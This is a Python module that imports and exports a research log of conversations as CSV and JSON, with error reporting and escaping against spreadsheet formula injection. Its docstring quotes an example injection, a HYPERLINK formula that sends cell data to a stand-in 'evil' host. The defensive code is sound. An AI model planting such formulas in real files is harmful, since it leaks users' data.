"""The research log as CSV and JSON text, both ways, with row-and-column errors.

Both formats carry the same fields and round-trip exactly: ``parse_csv(format_csv(log))
== log`` and ``format_csv(parse_csv(text)) == text`` for text this module wrote (the same
for JSON, and CSV -> JSON -> CSV).

CSV: one row per conversation; the columns ``person, years, market, stage, size, role,
date, notes``, then one ``estimate:NAME`` column per param and one ``stance:CLAIM`` column
per claim (an empty cell: that person gave none). JSON: ``{"version": 1, "conversations":
[{"person": ..., "years": ..., ..., "estimates": {NAME: TEXT}, "stances": {CLAIM: STANCE}}]}``.

Spreadsheets run a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and a tab or
carriage return before them) as a formula: ``=HYPERLINK("http://evil/?"&A2, "open")`` in a
note would send your data away when clicked. :func:`format_csv` writes such a text cell
with a leading apostrophe (``'=HYPERLINK(...)``), which spreadsheets show as text, and
:func:`parse_csv` removes that apostrophe again, so the log round-trips exactly.
:func:`formula_cells` lists the cells of an import that a spreadsheet would run, for a
warning. Estimates and numbers are left as they are: ``-5% to 5%`` is an estimate.

Parsers take text, not files. A bad record is reported as ``FILE:ROW:COLUMN: message``:
for CSV the row counts records as a spreadsheet does (the header is row 1), for JSON it is
the conversation's position in the list (from 1) and the column is the field name.
Every problem is collected before anything is returned, so an import is all or nothing.
"""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterable, Sequence
from typing import Literal

from crossroads.errors import UsageError
from crossroads.evidence.research import FIELDS, Conversation, FieldError, make_conversation

__all__ = [
    "ESTIMATE_PREFIX",
    "FORMULA_START",
    "MAX_PROBLEMS",
    "STANCE_PREFIX",
    "Format",
    "RecordError",
    "format_conversations",
    "format_csv",
    "format_json",
    "formula_cells",
    "guess_format",
    "parse_conversations",
    "parse_csv",
    "parse_json",
]

Format = Literal["csv", "json"]
ESTIMATE_PREFIX = "estimate:"
STANCE_PREFIX = "stance:"
MAX_PROBLEMS = 20
"""An import reports at most this many problems (all of them are fatal)."""
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP's CSV injection list)."""
#: Columns whose cells are free text (the rest are numbers, dates, codes and estimates).
_TEXT_COLUMNS = frozenset({"person", "market", "stage", "size", "role", "notes"})


def _escape(cell: str) -> str:
    """A text cell a spreadsheet would run, prefixed with an apostrophe (also one that
    already starts with apostrophes before such a character), so :func:`_unescape`
    restores any text exactly.

    >>> _escape('=HYPERLINK("http://x")'), _escape("'=1"), _escape("'ok")
    ('\\'=HYPERLINK("http://x")', "''=1", "'ok")
    """
    if cell.startswith(FORMULA_START) or (cell.startswith("'") and
                                          cell.lstrip("'").startswith(FORMULA_START)):
        return "'" + cell
    return cell


def _unescape(cell: str) -> str:
    if cell.startswith("'") and cell.lstrip("'").startswith(FORMULA_START):
        return cell[1:]
    return cell


def formula_cells(text: str) -> list[tuple[int, str]]:
    """``(row, column)`` of every text cell in CSV ``text`` that a spreadsheet would run
    as a formula, for the warning of `research import`.

    >>> formula_cells("person,years,notes\\nana,3,=1+1\\n")
    [(2, 'notes')]
    """
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    try:
        names = [c.strip().lower() for c in next(reader)]
        return [(row, name) for row, cells in enumerate(reader, start=2)
                for name, cell in zip(names, cells, strict=False)
                if name in _TEXT_COLUMNS and cell.startswith(FORMULA_START)]
    except (StopIteration, csv.Error):
        return []


class RecordError(UsageError):
    """Problems in an import file, each as ``FILE:ROW:COLUMN: message``.

    >>> RecordError("people.csv", 4, "years", "expected a whole number of years, got 'ten'"
    ...             ).format()
    "people.csv:4:years: expected a whole number of years, got 'ten'"
    """

    def __init__(self, source: str, row: int, column: str | int, message: str, *,
                 problems: Sequence[RecordError] = ()) -> None:
        super().__init__(f"{source}:{row}:{column}: {message}")
        self.source, self.row, self.column, self.message = source, row, column, message
        self.problems: tuple[RecordError, ...] = (self, *problems)

    def format(self) -> str:
        """This problem alone, ``FILE:ROW:COLUMN: message``."""
        return f"{self.source}:{self.row}:{self.column}: {self.message}"

    def format_all(self) -> str:
        """Every problem found, one per line."""
        return "\n".join(p.format() for p in self.problems)

    @classmethod
    def collect(cls, problems: Sequence[RecordError]) -> RecordError:
        """One exception carrying all ``problems`` (the first one is its own message)."""
        first, *rest = problems
        return cls(first.source, first.row, first.column, first.message, problems=rest)


def guess_format(name: str, default: Format = "csv") -> Format:
    """``json`` for a ``.json`` file name, ``csv`` for ``.csv``, else ``default``."""
    lower = name.lower()
    if lower.endswith(".json"):
        return "json"
    return "csv" if lower.endswith(".csv") else default


def parse_conversations(text: str, fmt: Format, *, source: str) -> list[Conversation]:
    """:func:`parse_csv` or :func:`parse_json`."""
    return parse_json(text, source=source) if fmt == "json" else parse_csv(text, source=source)


def format_conversations(conversations: Iterable[Conversation], fmt: Format) -> str:
    """:func:`format_csv` or :func:`format_json`."""
    return format_json(conversations) if fmt == "json" else format_csv(conversations)


# ---------------------------------------------------------------- CSV -------------------

def _header(row: list[str], source: str) -> list[str]:
    names = [c.strip() for c in row]
    names = [c.lower() if c.lower() in FIELDS else c for c in names]
    problems = []
    for k, name in enumerate(names):
        if not name.startswith((ESTIMATE_PREFIX, STANCE_PREFIX)) and name not in FIELDS:
            problems.append(RecordError(source, 1, name or k + 1, (
                f"unknown column {name!r}; expected {', '.join(FIELDS)}, "
                f"{ESTIMATE_PREFIX}NAME or {STANCE_PREFIX}CLAIM")))
        elif name in names[:k]:
            problems.append(RecordError(source, 1, name, f"column {name!r} appears twice"))
    problems += [RecordError(source, 1, need, f"missing column {need!r}")
                 for need in ("person", "years") if need not in names]
    if problems:
        raise RecordError.collect(problems)
    return names


def _raw_csv_record(names: list[str], cells: list[str]) -> dict[str, object]:
    estimates: dict[str, str] = {}
    stances: dict[str, str] = {}
    raw: dict[str, object] = {"estimates": estimates, "stances": stances}
    for name, cell in zip(names, cells, strict=True):
        if name.startswith(ESTIMATE_PREFIX):
            if cell.strip():
                estimates[name.removeprefix(ESTIMATE_PREFIX)] = cell
        elif name.startswith(STANCE_PREFIX):
            if cell.strip():
                stances[name.removeprefix(STANCE_PREFIX)] = cell
        else:
            cell = _unescape(cell) if name in _TEXT_COLUMNS else cell
            raw[name] = cell if name == "notes" else (cell.strip() or None)
    return raw


def parse_csv(text: str, *, source: str = "<csv>") -> list[Conversation]:
    """Conversations from CSV text (see the module docstring for the columns).

    >>> parse_csv("person,years,estimate:p_em\\nana,12,30% to 50%\\n")[0].estimates
    {'p_em': '30% to 50%'}
    """
    reader = csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""))
    try:
        names = _header(next(reader), source)
    except StopIteration:
        raise RecordError(source, 1, "person", "the file is empty; expected a header row "
                          f"({', '.join(FIELDS)}, {ESTIMATE_PREFIX}NAME...)") from None
    except csv.Error as exc:
        raise RecordError(source, 1, 1, f"not valid CSV: {exc}") from None
    out: list[Conversation] = []
    problems: list[RecordError] = []
    row = 1
    try:
        for row, cells in enumerate(reader, start=2):
            if not any(c.strip() for c in cells):
                continue  # a blank line
            if len(cells) != len(names):
                where = names[len(cells)] if len(cells) < len(names) else len(names) + 1
                problems.append(RecordError(source, row, where, (
                    f"expected {len(names)} fields as in the header, got {len(cells)}")))
                continue
            try:
                out.append(make_conversation(_raw_csv_record(names, cells)))
            except FieldError as exc:
                problems.append(RecordError(source, row, exc.field, exc.message))
            if len(problems) >= MAX_PROBLEMS:
                break
    except csv.Error as exc:
        problems.append(RecordError(source, row + 1, 1, f"not valid CSV: {exc}"))
    if problems:
        raise RecordError.collect(problems)
    return out


def format_csv(conversations: Iterable[Conversation]) -> str:
    """CSV text (RFC 4180, CRLF line ends): the fixed columns, then ``estimate:*`` and
    ``stance:*`` columns, sorted.

    >>> format_csv([Conversation("ana", 12, estimates={"p_em": "40%"})]).splitlines()
    ['person,years,market,stage,size,role,date,notes,estimate:p_em', 'ana,12,,,,,,,40%']
    """
    log = list(conversations)
    est = sorted({n for c in log for n in c.estimates})
    sta = sorted({n for c in log for n in c.stances})
    buffer = io.StringIO(newline="")
    # RFC 4180 line ends: with "\n" alone, csv leaves a lone "\r" in a note unquoted and
    # the reader splits the record there.
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([*FIELDS, *(ESTIMATE_PREFIX + n for n in est),
                     *(STANCE_PREFIX + n for n in sta)])
    for c in log:
        scalars = c.to_dict()
        writer.writerow([*("" if scalars[f] is None else
                           _escape(str(scalars[f])) if f in _TEXT_COLUMNS else str(scalars[f])
                           for f in FIELDS),
                         *(c.estimates.get(n, "") for n in est),
                         *(c.stances.get(n, "") for n in sta)])
    return buffer.getvalue()


# ---------------------------------------------------------------- JSON ------------------

def parse_json(text: str, *, source: str = "<json>") -> list[Conversation]:
    """Conversations from JSON text: ``{"conversations": [...]}`` or a bare list.

    >>> parse_json('[{"person": "bo", "years": 7, "estimates": {"x": "1 to 2"}}]')[0].years
    7
    """
    try:
        data = json.loads(text.removeprefix("\ufeff"))
    except json.JSONDecodeError as exc:
        raise RecordError(source, exc.lineno, exc.colno, f"invalid JSON: {exc.msg}") from None
    if isinstance(data, dict):
        extra = sorted(set(data) - {"version", "conversations"})
        if extra or data.get("version", 1) != 1 or "conversations" not in data:
            raise RecordError(source, 1, extra[0] if extra else "conversations", (
                'expected {"version": 1, "conversations": [...]}'))
        data = data["conversations"]
    if not isinstance(data, list):
        raise RecordError(source, 1, "conversations", "expected a list of conversations")
    out: list[Conversation] = []
    problems: list[RecordError] = []
    for k, item in enumerate(data, start=1):
        if not isinstance(item, dict):
            problems.append(RecordError(source, k, "conversation",
                                        f"expected an object, got {item!r}"))
            continue
        try:
            out.append(make_conversation(item))
        except FieldError as exc:
            problems.append(RecordError(source, k, exc.field, exc.message))
        if len(problems) >= MAX_PROBLEMS:
            break
    if problems:
        raise RecordError.collect(problems)
    return out


def format_json(conversations: Iterable[Conversation]) -> str:
    """JSON text ``{"version": 1, "conversations": [...]}``, UTF-8 as is, 2-space indent."""
    data = {"version": 1, "conversations": [c.to_dict() for c in conversations]}
    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"
